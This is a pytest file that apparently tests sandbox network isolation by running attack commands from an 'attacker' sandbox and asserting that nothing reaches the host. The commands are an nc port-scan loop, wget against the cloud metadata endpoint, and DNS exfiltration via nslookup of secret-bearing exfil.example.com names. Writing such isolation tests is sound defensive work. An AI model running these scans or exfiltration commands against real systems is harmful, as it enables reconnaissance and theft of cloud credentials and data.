"""Port scans, the metadata address, DNS exfiltration and the network policy modes.

Every reachability claim is checked from the host: a listener the test runs on the host (on all of
its addresses, on the metadata address added to the host's loopback for the test) must see no
connection and no datagram at all.
"""

from __future__ import annotations

import socket
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager

import pytest

import dsec

from .conftest import Daemon, create, heartbeat, nonce

METADATA = "169.254.169.254"
COMMON_PORTS = (22, 53, 80, 443, 2375, 2379, 5000, 6443, 8080, 10250)


def host_addresses() -> list[str]:
    out = subprocess.run(["ip", "-o", "addr", "show"], capture_output=True, text=True, check=True).stdout
    addrs = []
    for line in out.splitlines():
        fields = line.split()
        addr = fields[3].split("/")[0]
        if fields[2] in ("inet", "inet6") and not addr.startswith("fe80"):
            addrs.append(addr)
    return addrs


class Listener:
    """TCP and UDP on one port of every host address; counts what arrives."""

    def __init__(self, host: str = "::") -> None:
        self.hits: list[str] = []
        self.tcp = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
        self.tcp.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        self.tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.tcp.bind((host, 0))
        self.port = self.tcp.getsockname()[1]
        self.tcp.listen(64)
        self.udp = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        self.udp.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        self.udp.bind((host, self.port))
        self.tcp.settimeout(0.2)
        self.udp.settimeout(0.2)
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        while not self._stop.is_set():
            try:
                conn, peer = self.tcp.accept()
                self.hits.append(f"tcp {peer}")
                conn.close()
            except OSError:
                pass
            try:
                _, peer = self.udp.recvfrom(4096)
                self.hits.append(f"udp {peer}")
            except OSError:
                pass

    def close(self) -> None:
        self._stop.set()
        self._thread.join(5)
        self.tcp.close()
        self.udp.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    lst = Listener()
    yield lst
    lst.close()


@contextmanager
def metadata_listener() -> Iterator[Listener]:
    """The cloud metadata address, made real on the host's loopback for the length of the test."""
    added = subprocess.run(["ip", "addr", "add", f"{METADATA}/32", "dev", "lo"], capture_output=True, check=False)
    lst = Listener.__new__(Listener)
    lst.hits = []
    tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    try:
        tcp.bind((METADATA, 80))
    except OSError as e:
        tcp.close()
        if added.returncode == 0:
            subprocess.run(["ip", "addr", "del", f"{METADATA}/32", "dev", "lo"], check=False)
        pytest.skip(f"cannot listen on {METADATA}:80 on this host: {e}")
    tcp.listen(16)
    tcp.settimeout(0.2)
    stop = threading.Event()

    def run() -> None:
        while not stop.is_set():
            try:
                conn, peer = tcp.accept()
                lst.hits.append(f"tcp {peer}")
                conn.close()
            except OSError:
                pass

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    try:
        with socket.create_connection((METADATA, 80), timeout=2):
            pass  # the host itself reaches it: the listener works
        thread.join(0.5) if not lst.hits else None
        assert lst.hits, "the metadata listener does not see the host's own connection"
        lst.hits.clear()
        yield lst
    finally:
        stop.set()
        thread.join(5)
        tcp.close()
        if added.returncode == 0:
            subprocess.run(["ip", "addr", "del", f"{METADATA}/32", "dev", "lo"], check=False)


def scan_script(targets: list[str], ports: list[int]) -> str:
    """Every target scanned in parallel, its ports in turn (bounded: the attacker has a pids limit)."""
    plist = " ".join(map(str, ports))
    return (
        f"for t in {' '.join(targets)}; do (for p in {plist}; do "
        'timeout 2 nc -w 1 "$t" "$p" </dev/null >/dev/null 2>&1 && echo "OPEN $t $p"; done) & done; wait; echo scanned'
    )


def test_port_scan_of_every_host_address(attacker: dsec.Sandbox, neighbour: dsec.Sandbox, listener: Listener) -> None:
    targets = [*host_addresses(), "127.0.0.1", "10.0.2.2", "172.17.0.1", "192.168.0.1"]
    ports = [*COMMON_PORTS, listener.port]
    with heartbeat(neighbour):
        res = attacker.exec(scan_script(targets, ports), timeout=300)
    assert res.stdout.endswith("scanned\n"), res
    assert listener.hits == [], listener.hits  # nothing arrived on the host
    # whatever the attacker's loopback answered on, it was not the host's listener port
    assert f" {listener.port}\n" not in res.stdout


def test_the_neighbour_is_unreachable(attacker: dsec.Sandbox, neighbour: dsec.Sandbox) -> None:
    token = nonce()
    # the neighbour listens on its own addresses for a few seconds and records what it receives
    got: list[dsec.ExecResult] = []
    thread = threading.Thread(
        target=lambda: got.append(neighbour.exec("timeout 4 nc -l -p 7777 > /tmp/got; cat /tmp/got", timeout=20))
    )
    thread.start()
    addrs = neighbour.exec("ip -o addr 2>/dev/null | awk '{print $4}' | cut -d/ -f1").stdout.split()
    targets = sorted({a for a in addrs if a not in ("127.0.0.1", "::1")} | {"10.0.2.15", "172.17.0.2"})
    script = "; ".join(f"echo {token} | timeout 2 nc -w 1 {t} 7777" for t in targets) + "; echo sent"
    with heartbeat(neighbour):
        res = attacker.exec(script, timeout=60)
    thread.join(30)
    assert res.stdout.endswith("sent\n")
    assert got and token not in got[0].stdout


def test_the_metadata_address_is_unreachable(attacker: dsec.Sandbox, neighbour: dsec.Sandbox) -> None:
    with metadata_listener() as md:
        with heartbeat(neighbour):
            res = attacker.exec(
                f"timeout 3 wget -q -T 2 -O - http://{METADATA}/latest/meta-data/; "
                f"echo x | timeout 2 nc -w 1 {METADATA} 80; "
                "timeout 2 nc -w 1 fd00:ec2::254 80 </dev/null; echo done",
                timeout=30,
            )
        assert res.stdout.endswith("done\n")
        assert md.hits == [], md.hits


def test_dns_exfiltration_reaches_nothing(attacker: dsec.Sandbox, neighbour: dsec.Sandbox, listener: Listener) -> None:
    secret = nonce()
    names = [f"{secret}.exfil.example.com", f"{secret}.dsec-exfil.test"]
    servers = ["", *(f" {a}" for a in host_addresses()), " 127.0.0.1", " 8.8.8.8", " 1.1.1.1", " 169.254.169.253"]
    script = "; ".join(f"timeout 3 nslookup {n}{s}" for n in names for s in servers)
    script += "; " + "; ".join(f"echo {secret} | timeout 1 nc -u -w 1 {a} {listener.port}" for a in host_addresses())
    with heartbeat(neighbour):
        res = attacker.exec(script + "; echo done", timeout=120)
    assert res.stdout.endswith("done\n")
    assert listener.hits == [], listener.hits
    assert "Address" not in res.stdout.split("Name:")[-1] or secret not in res.stdout, res.stdout


# --- the network policy modes ------------------------------------------------------------------


def test_network_policy_modes_keep_the_host_metadata_and_others_out(
    sec_daemon: Daemon, kind: str, neighbour: dsec.Sandbox, listener: Listener
) -> None:
    full = create(sec_daemon, kind, network="full", cpu=0.5, cpu_limit=1.0)
    # an allowlist naming the host's own addresses: they must stay unreachable all the same
    host_v4 = [a for a in host_addresses() if ":" not in a and not a.startswith("127.")]
    try:
        allow = create(sec_daemon, kind, network={"allow": [f"{a}:{listener.port}" for a in host_v4]})
    except dsec.InvalidRequest:  # refused up front is as good; take a harmless allowlist instead
        allow = create(sec_daemon, kind, network={"allow": ["203.0.113.0/24:443"]})
    try:
        # each scans the host, the metadata address and the other one (a sandbox with an address)
        others = [str(sb.network_status().address or "").split("/")[0] for sb in (full, allow)]
        targets = [*host_addresses(), "127.0.0.1", METADATA, *filter(None, others)]
        ports = [listener.port, 80, 22]
        with metadata_listener() as md, heartbeat(neighbour):
            for sb in (full, allow):
                sb.exec(scan_script(targets, ports), timeout=300)
                sb.exec(f"timeout 3 nslookup {nonce()}.exfil.example.com; true", timeout=30)
        assert listener.hits == [] and md.hits == [], (listener.hits, md.hits)
        # the platform counted what it refused
        assert full.network_status().denied_packets > 0
        status = allow.network_status()
        assert status.denied_packets > 0 or status.denied_dns > 0, status
    finally:
        for sb in (full, allow):
            sb.kill()
